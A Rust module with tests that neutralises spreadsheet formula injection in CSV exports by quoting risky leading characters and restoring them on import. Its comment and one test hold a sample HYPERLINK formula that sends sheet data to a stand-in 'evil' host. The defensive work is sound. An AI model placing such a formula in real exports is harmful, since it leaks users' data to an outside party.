//! Text cells of a CSV, safe to open in a spreadsheet and exact to import
//! back (the README's "Lists: filters, order, export").
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and,
//! in some, a tab or a carriage return) as a formula: a row named
//! `=HYPERLINK("https://evil/?"&A2,"x")` would send the sheet's data away
//! when the export is opened. So an export writes such text behind a `'`,
//! which spreadsheets read as "text follows" and do not show, and an
//! import takes that `'` off again. Text that already starts with `'`s
//! before such a character gets one more, so the two are inverses for
//! every text: export then import gives the rows back as they were.

use std::borrow::Cow;

/// What a text cell may not start with.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `text`, after any leading `'`s, starts with a trigger.
fn quoted_trigger(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(TRIGGERS)
}

/// A text as an export writes it: behind a `'` when a spreadsheet would
/// run it (or when taking a `'` off would make it one that runs).
pub(crate) fn neutralise(text: &str) -> Cow<'_, str> {
    if quoted_trigger(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A text cell as an import reads it: what [`neutralise`] wrote, back.
pub(crate) fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if quoted_trigger(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_quoted_and_come_back_exactly() {
        for (text, written) in [
            (
                "=HYPERLINK(\"https://evil/?\"&A2,\"x\")",
                "'=HYPERLINK(\"https://evil/?\"&A2,\"x\")",
            ),
            ("+1", "'+1"),
            ("-5", "'-5"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("''-1", "'''-1"),
            ("plain", "plain"),
            ("'quoted'", "'quoted'"),
            ("a=b", "a=b"),
            ("", ""),
            ("'", "'"),
        ] {
            assert_eq!(neutralise(text), written, "{text:?}");
            assert_eq!(restore(written), text, "{written:?}");
        }
    }

    #[test]
    fn what_a_person_typed_behind_a_quote_is_the_text() {
        // A sheet's own way of writing a formula as text.
        assert_eq!(restore("'=1+1"), "=1+1");
        // A quote before anything else is part of the text.
        assert_eq!(restore("'tis"), "'tis");
    }
}
